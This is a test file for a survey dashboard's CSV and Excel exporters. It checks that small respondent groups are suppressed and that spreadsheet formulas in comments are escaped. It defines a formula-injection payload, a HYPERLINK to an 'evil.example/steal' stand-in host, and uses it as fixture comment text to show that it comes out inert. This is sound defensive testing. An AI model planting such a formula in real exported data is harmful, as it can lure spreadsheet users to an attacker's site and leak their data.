"""CSV and XLSX downloads: registered, suppressed, and safe to open in a spreadsheet.

The property test builds dashboards from generated response sets (no database: the engine's
frames are made directly) and reads every download back as a spreadsheet user would.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import numpy as np
import pandas as pd
import pytest
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from partnerlens.directory.models import Role
from partnerlens.insights import dashboard, data
from partnerlens.insights.charts.text import SUPPRESSED
from partnerlens.insights.exporters import ExportContext, exporters, get_exporter
from partnerlens.insights.exporters.tabular import escape
from partnerlens.insights.models import InsightSettings
from partnerlens.insights.tests.helpers import fill_cycle, make_results_framework

INJECTION = '=HYPERLINK("http://evil.example/steal","Click for details")'


def read_csv(payload: bytes) -> list[tuple[str, list[str], list[list[str]]]]:
    """(title, headers, rows) of each table in the CSV download (after the "about" block)."""
    text = payload.decode("utf-8-sig")
    blocks, block = [], []
    for row in csv.reader(io.StringIO(text)):
        if not row:
            if block:
                blocks.append(block)
            block = []
        else:
            block.append(row)
    if block:
        blocks.append(block)
    return [(b[0][0], b[1], b[2:]) for b in blocks[1:]]


def read_xlsx(payload: bytes) -> list[tuple[str, list, list[list]]]:
    book = load_workbook(io.BytesIO(payload))
    tables = []
    for sheet in book.worksheets[1:]:
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        tables.append(
            (sheet.title, rows[0], [["" if v is None else v for v in r] for r in rows[1:]])
        )
    return tables


def small_groups_shown(tables, k: int, parent_k: int) -> list:
    """Every visible figure in a "Responses" column that is below the minimum group size."""
    found = []
    for title, headers, rows in tables:
        columns = [i for i, h in enumerate(headers) if str(h).startswith("Responses")]
        role = headers.index("Role") if "Role" in headers else None
        for row in rows:
            for column in columns:
                value = row[column]
                if value in ("", SUPPRESSED, None):
                    continue
                n = int(float(value))
                limit = parent_k if role is not None and row[role] == "Parent" else k
                if 0 < n < limit:
                    found.append((title, row))
    return found


# --- generated dashboards, no database ---------------------------------------------------

ROLES = ["headteacher", "teacher", "governor", "parent", "support_staff"]
THEMES = pd.DataFrame(
    {
        "theme_key": ["purpose", "practice"],
        "dimension": ["", ""],
        "weight": [1.0, 1.0],
        "target_level": [3.0, np.nan],
        "scale_min": [1.0, 1.0],
        "scale_max": [5.0, 5.0],
        "title_en": ["Clarity of purpose", "Depth of practice"],
        "title_cy": ["", ""],
    }
)
groups = st.lists(
    st.tuples(
        st.sampled_from(ROLES),
        st.integers(1, 3),  # organisation
        st.integers(1, 12),  # people
        st.integers(1, 5),  # their usual answer
    ),
    min_size=1,
    max_size=7,
)


def frames_from(groups_, k: int, parent_k: int, seed: int) -> data.CycleFrames:
    rng = np.random.default_rng(seed)
    rows, comments, response = [], [], 0
    for role, organisation, count, level in groups_:
        for _ in range(count):
            response += 1
            for theme in THEMES["theme_key"]:
                value = float(np.clip(level + rng.integers(-1, 2), 1, 5))
                rows.append(
                    (
                        1,
                        response,
                        role,
                        organisation,
                        theme,
                        "",
                        theme,
                        "agreement",
                        value,
                        False,
                        pd.NA,
                        "self",
                    )
                )
            comments.append((1, response, role, organisation, "practice", "story", INJECTION))
    history = pd.DataFrame(
        rows,
        columns=[
            "cycle_id",
            "response_id",
            "role",
            "organisation_id",
            "theme_key",
            "dimension",
            "question_key",
            "kind",
            "value",
            "dont_know",
            "about_organisation_id",
            "source",
        ],
    )
    history["about_organisation_id"] = history["about_organisation_id"].astype("Int64")
    return data.CycleFrames(
        cycle_id=1,
        cycle_title="Generated",
        partnership_id=1,
        partnership_name="Generated partnership",
        partnership_kind="cluster",
        framework_slug="",
        themes=THEMES,
        history=history,
        cycles=pd.DataFrame({"cycle_id": [1], "order": [0], "label": ["Generated"]}),
        relationships=history.iloc[0:0],
        relationship_questions={},
        comments=pd.DataFrame(
            comments,
            columns=[
                "cycle_id",
                "response_id",
                "role",
                "organisation_id",
                "theme_key",
                "question_key",
                "text",
            ],
        ),
        organisations={1: "School one", 2: "School two", 3: "School three"},
        invited=0,
        completed=0,
        settings=InsightSettings(min_group_size=k, min_parent_group_size=parent_k),
    )


def context_for(built) -> ExportContext:
    return ExportContext(built, datetime(2025, 3, 1, tzinfo=timezone.get_current_timezone()))


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(groups=groups, k=st.integers(3, 7), seed=st.integers(0, 1000))
def test_no_download_ever_shows_a_group_smaller_than_the_minimum(groups, k, seed):
    built = dashboard.build(frames_from(groups, k, 10, seed))
    context = context_for(built)
    csv_tables = read_csv(get_exporter("csv").render(context))
    xlsx_tables = read_xlsx(get_exporter("xlsx").render(context))
    assert small_groups_shown(csv_tables, k, 10) == []
    assert small_groups_shown(xlsx_tables, k, 10) == []
    # No single hidden role next to a visible total: it could be found by subtraction.
    for _title, headers, rows in csv_tables[:1]:
        records = [dict(zip(headers, r, strict=True)) for r in rows]
        for theme in {r["Theme or dimension"] for r in records if r["Level"] == "Theme"}:
            mine = [
                r for r in records if r["Level"] == "Theme" and r["Theme or dimension"] == theme
            ]
            total = next(r for r in mine if r["Group"] == "Everyone")
            roles = [r for r in mine if r["Group"] == "Role"]
            hidden = [r for r in roles if r["Responses"] == SUPPRESSED]
            if total["Responses"] != SUPPRESSED:
                assert len(hidden) != 1, (theme, roles)
    # Every comment shown comes from a role with at least k respondents.
    people = {}
    for role, _organisation, count, _level in groups:
        people[role] = people.get(role, 0) + count
    for title, _headers, rows in csv_tables:
        if title == "Comments":
            for row in rows:
                role = next(r for r in ROLES if str(Role(r).label) == row[0])
                assert people[role] >= (10 if role == "parent" else k)


def test_every_exporter_is_registered_with_a_content_type():
    identifiers = {e.identifier: e.content_type for e in exporters()}
    assert identifiers == {
        "csv": "text/csv; charset=utf-8",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "pdf": "application/pdf",
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 161", "'+44 161"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Fine words", "Fine words"),
        (-0.25, -0.25),
        (7, 7),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_escaped_and_numbers_are_kept(value, expected):
    assert escape(value) == expected


def test_a_hyperlink_formula_in_a_comment_comes_out_inert(personas, results_schools):
    version = make_results_framework()
    cycle = fill_cycle(
        personas["a"],
        personas["lead_a"],
        results_schools,
        version,
        comments={Role.PARENT: INJECTION},
    )
    built = dashboard.build(data.load_cycle(cycle))
    context = context_for(built)
    csv_comments = next(
        t for t in read_csv(get_exporter("csv").render(context)) if t[0] == "Comments"
    )
    assert csv_comments[2] and all(row[2].startswith("'=HYPERLINK") for row in csv_comments[2])
    book = load_workbook(io.BytesIO(get_exporter("xlsx").render(context)))
    sheet = book["Comments"]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=HYPERLINK") for c in cells)
    # Negative differences stay numbers, so spreadsheets can still sort and sum them.
    gaps = book["Role gaps"]
    differences = [row[7] for row in gaps.iter_rows(min_row=2)]
    assert any(c.data_type == "n" and c.value < 0 for c in differences)


def test_the_excel_file_streams_text_as_text_with_a_bold_frozen_header():
    from partnerlens.insights.dashboard.parts import Dashboard, ExportTable

    rows = [
        ["=1+1", -2.5, 7, None, "bell\x07 & <tag>", float("nan"), np.int64(3), " padded "],
        ["plain", 0.125, 0, "", "-minus", 1e-9, np.float64(2.5), "@at"],
    ]
    built = Dashboard(
        "T",
        "P",
        5,
        10,
        2,
        0,
        0,
        [],
        [],
        [lambda: [ExportTable("scores", "Scores: [all]", list("ABCDEFGH"), rows)]],
    )
    book = load_workbook(io.BytesIO(get_exporter("xlsx").render(context_for(built))))
    assert book.sheetnames == ["About", "Scores all"]
    sheet = book["Scores all"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    first, second = ([c.value for c in row] for row in sheet.iter_rows(min_row=2))
    assert first == ["'=1+1", -2.5, 7, None, "bell & <tag>", None, 3, " padded "]
    assert second == ["plain", 0.125, 0, None, "'-minus", 1e-9, 2.5, "'@at"]
    assert all(c.data_type == "s" for c in sheet[2] if isinstance(c.value, str))
